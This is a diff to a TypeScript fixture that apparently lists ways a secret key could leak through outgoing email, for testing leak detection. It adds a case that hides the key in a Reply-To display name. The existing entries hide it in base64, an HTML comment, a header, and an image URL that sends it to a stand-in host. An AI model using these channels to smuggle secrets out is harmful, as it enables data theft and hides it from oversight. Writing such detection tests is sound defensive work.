@@ -190,6 +190,7 @@ export const WAYS_OUT: Readonly<Record<string, Run>> = {
   'in base64': [send(says(Buffer.from(`The key is ${KEY}`).toString('base64')))],
   'in a comment of HTML': [send({ to, ...html(`<p>x</p><!-- ${KEY} -->`) })],
   'in the address of a picture': [send({ to, ...html(`<img src="https://a.example/?k=${KEY}">`) })],
+  'beside the address for answers': [send({ ...says('x'), headers: [`Reply-To: "${KEY}" <ada@example.com>`] })],
   'in a header': [send({ ...says('x'), headers: [`X-Note: ${KEY}`] })],
 };
 
